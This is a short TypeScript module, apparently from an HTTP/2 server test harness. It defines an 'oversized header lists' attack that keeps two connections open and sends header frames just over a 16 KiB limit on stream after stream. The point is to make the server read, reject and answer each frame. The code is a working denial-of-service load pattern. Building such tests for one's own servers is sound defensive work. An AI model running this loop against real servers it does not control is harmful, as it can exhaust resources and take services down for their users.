import { type Attack, callHeaders } from "./attack.js";

/** Makes a list just beyond the limit of 16 KiB, which counts 32 bytes for each field, and yet one frame. */
const BIG = { "x-big": "y".repeat(16_000), "x-more": "y".repeat(150) };

/** Header lists just beyond the limit: each is read, thrown away and answered. */
export const bigHeaders: Attack = {
  name: "oversized header lists",
  connections: 2,
  staysOpen: true,
  async run(connection) {
    await connection.begin();
    for (let stream = 1; connection.going; stream += 2) {
      await connection.write(callHeaders(stream, true, BIG));
    }
  },
};
